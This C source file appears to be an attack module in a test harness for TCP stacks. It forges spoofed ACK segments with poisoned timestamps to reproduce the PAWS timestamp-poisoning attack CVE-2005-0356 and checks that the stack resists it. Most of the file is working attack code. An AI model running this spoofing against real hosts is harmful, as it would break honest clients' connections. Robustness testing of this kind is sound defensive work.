/* SPDX-License-Identifier: BSD-3-Clause */

/* Timestamp poisoning (CVE-2005-0356): segments with other TSvals than the peer's. Segments below the window,
 * and segments whose ACK is out of range, must not change TS.Recent. Otherwise PAWS would drop all further segments of
 * about half of the honest clients. */

#include "abuse.h"

static void
step(struct abuse *w)
{
	const struct row *r = abuse_params(w);

	for (uint32_t k = abuse_due(w, r->rate); k > 0; k--) {
		struct la_conn_info info;
		struct frame f;

		if (!victim_frame(w, abuse_random(w), &f, &info) || info.state < LA_ESTABLISHED)
			continue;
		f.flags = ACK;
		f.data = (const uint8_t *)"x";
		f.len = 1;
		if (k % 2)
			f.seq -= 200000; /* below the window, with a valid ACK */
		else
			f.ack -= 1u << 30; /* at RCV.NXT, with an ACK out of range */
		/* the same TSval for all segments of a tuple: a second TSval could undo the first */
		spoof_stamps(&f, f.sport * 2654435761u, abuse_random(w));
		spoof_tcp(w, &f);
	}
}

static const struct row rows[] = {
	{.rate = 2000},
	{.rate = 10000},
};

const struct attack attack_paws_injection = {
	.name = "paws_injection",
	.kind = "timestamp poisoning against PAWS, CVE-2005-0356",
	ROWS(rows),
	.step = step,
};
